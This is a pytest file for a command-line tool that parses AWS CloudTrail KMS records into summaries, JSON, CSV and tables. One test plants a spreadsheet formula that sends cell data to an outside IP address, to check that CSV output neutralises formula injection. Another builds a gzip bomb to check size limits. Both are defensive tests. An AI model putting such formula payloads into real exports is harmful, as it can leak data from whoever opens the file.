"""``emr-cmk usage parse`` on the CloudTrail fixtures."""

from __future__ import annotations

import csv
import gzip
import io
import json
from pathlib import Path

import pytest

from emr_cmk_notebook.cli import main
from emr_cmk_notebook.cli.usage_cmd import TABLE_COLUMNS
from emr_cmk_notebook.usage import COLUMNS

FIXTURES = Path(__file__).parents[1] / "usage" / "fixtures"
TRAIL = str(FIXTURES / "kms_trail.json")


def test_summary_prints_counts_and_time_range(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["usage", "parse", TRAIL, "--summary"]) == 0
    assert json.loads(capsys.readouterr().out) == {
        "kms_records": 12,
        "skipped_non_kms": 2,
        "skipped_malformed": 2,
        "first_event": "2026-02-10T09:00:04Z",
        "last_event": "2026-02-10T09:24:48Z",
        "event_names": {"GenerateDataKey": 6, "Decrypt": 5, "Encrypt": 1},
    }


def test_json_prints_one_object_per_kms_record(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["usage", "parse", str(FIXTURES / "kms_trail.json.gz"), "--json"]) == 0
    rows = json.loads(capsys.readouterr().out)
    assert len(rows) == 12
    emr = rows[11]
    assert list(emr)[: len(COLUMNS)] == list(COLUMNS)
    assert emr["event_time"] == "2026-02-10T09:24:48Z"
    assert emr["encryption_context"] == {"applicationId": "00fq3kd9a8bc1234", "team": "risk"}
    assert emr["invoked_by"] == "AWS Internal"
    assert emr["principal_arn"] is None


def test_csv_has_a_header_and_a_line_per_record(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["usage", "parse", str(FIXTURES / "lookup_events.json"), "--csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert len(rows) == 12
    assert list(rows[0])[: len(COLUMNS)] == list(COLUMNS)
    assert rows[2]["error_code"] == "AccessDeniedException"
    assert json.loads(rows[0]["encryption_context"]) == {
        "Department": "Engineering",
        "Project": "Alpha",
    }
    assert rows[0]["event_time"] == "2026-02-10T09:00:04Z"


def test_no_flag_prints_a_readable_table(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["usage", "parse", str(FIXTURES / "kms_trail.jsonl")]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[0] == (
        "12 KMS records; skipped 2 non-KMS and 3 malformed;"
        " 2026-02-10T09:00:04Z to 2026-02-10T09:24:48Z"
    )
    assert lines[1].split() == list(TABLE_COLUMNS)
    assert len(lines) == 2 + 12
    assert "AccessDeniedException" in lines[4]


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (None, "no such file"),
        (b"eventTime,eventName\n", "not JSON (line 1"),
        (b'{"Records": [{"eventVersion": "1.11", "eventTi', "not valid JSON at line 1"),
        (b"\x1f\x8b\x08\x00broken", "gzip data is truncated or corrupt"),
    ],
)
def test_bad_files_exit_2_with_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], content: bytes | None, message: str
) -> None:
    path = tmp_path / "trail.json"
    if content is not None:
        path.write_bytes(content)
    assert main(["usage", "parse", str(path), "--json"]) == 2
    captured = capsys.readouterr()
    assert captured.out == ""
    assert captured.err.count("\n") == 1
    assert captured.err.startswith(f"emr-cmk: error: {path}: ")
    assert message in captured.err


def test_output_flags_exclude_each_other(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["usage", "parse", TRAIL, "--json", "--csv"]) == 2
    assert "not allowed with argument" in capsys.readouterr().err


def test_malformed_records_do_not_change_the_exit_code(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "odd.jsonl"
    path.write_text('{"eventSource": "kms.amazonaws.com"}\n[1, 2]\n')
    assert main(["usage", "parse", str(path), "--summary"]) == 0
    summary = json.loads(capsys.readouterr().out)
    assert (summary["kms_records"], summary["skipped_malformed"]) == (0, 2)
    assert summary["first_event"] is None


def _kms_record(context: dict[str, str], user_agent: str) -> dict:
    key = "arn:aws:kms:us-east-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab"
    return {
        "eventVersion": "1.11",
        "userIdentity": {"type": "IAMUser", "arn": "arn:aws:iam::111122223333:user/Alice"},
        "eventTime": "2026-02-10T09:00:04Z",
        "eventSource": "kms.amazonaws.com",
        "eventName": "GenerateDataKey",
        "awsRegion": "us-east-1",
        "userAgent": user_agent,
        "requestParameters": {"keyId": key, "encryptionContext": context},
        "eventID": "e7c1f2d4-0000-4000-9000-00000000feed",
        "resources": [{"ARN": key, "type": "AWS::KMS::Key"}],
        "recipientAccountId": "111122223333",
    }


def test_csv_cells_that_a_spreadsheet_would_run_stay_text(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    link = '=HYPERLINK("http://198.51.100.7/?d="&A1,"open")'
    context = {"note": link, "plus": "+1+2", "minus": "-3", "tab": "\tx", "plain": "churn"}
    path = tmp_path / "trail.json"
    path.write_text(json.dumps({"Records": [_kms_record(context, "@SUM(1,2)")]}))

    assert main(["usage", "parse", str(path), "--csv"]) == 0
    (row,) = csv.DictReader(io.StringIO(capsys.readouterr().out))
    assert row["ctx.note"] == f"'{link}"
    assert (row["ctx.plus"], row["ctx.minus"], row["ctx.tab"]) == ("'+1+2", "'-3", "'\tx")
    assert row["ctx.plain"] == "churn"
    assert row["user_agent"] == "'@SUM(1,2)"
    assert row["event_time"] == "2026-02-10T09:00:04Z"
    assert json.loads(row["encryption_context"]) == context

    # Only CSV is for spreadsheets: JSON keeps the values as CloudTrail wrote them.
    assert main(["usage", "parse", str(path), "--json"]) == 0
    (plain,) = json.loads(capsys.readouterr().out)
    assert plain["user_agent"] == "@SUM(1,2)" and plain["encryption_context"]["note"] == link


def test_endless_or_oversized_input_fails_in_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["usage", "parse", "/dev/zero", "--summary"]) == 2
    captured = capsys.readouterr()
    assert captured.out == "" and captured.err.count("\n") == 1
    assert captured.err.startswith("emr-cmk: error: /dev/zero: is larger than 512 MiB")

    # A small gzip file that unpacks to more than a log file holds.
    bomb = tmp_path / "bomb.json.gz"
    with gzip.open(bomb, "wb", compresslevel=9) as packed:
        chunk = b" " * (1 << 20)
        for _ in range(513):
            packed.write(chunk)
    assert bomb.stat().st_size < 1 << 20
    assert main(["usage", "parse", str(bomb), "--summary"]) == 2
    captured = capsys.readouterr()
    assert captured.err.count("\n") == 1
    assert f"{bomb}: unpacks to more than 512 MiB" in captured.err
